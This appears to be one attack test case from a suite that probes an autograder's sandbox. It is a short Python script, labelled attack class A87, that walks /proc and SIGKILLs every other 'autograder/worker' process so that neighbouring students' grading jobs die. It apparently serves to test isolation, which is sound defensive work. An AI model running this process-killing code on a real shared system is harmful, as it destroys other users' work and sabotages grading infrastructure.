# /// attack
# class = "A87"
# title = "kills every other process of the kit"
# hope = "the next student's worker is one"
# safe = "L2"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import glob, os, signal
tried()
for file in glob.glob("/proc/[0-9]*/cmdline"):
    pid = int(file.split("/")[2])
    try:
        if b"autograder/worker" in open(file, "rb").read() and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
            got("killed a neighbour")
    except OSError:
        pass
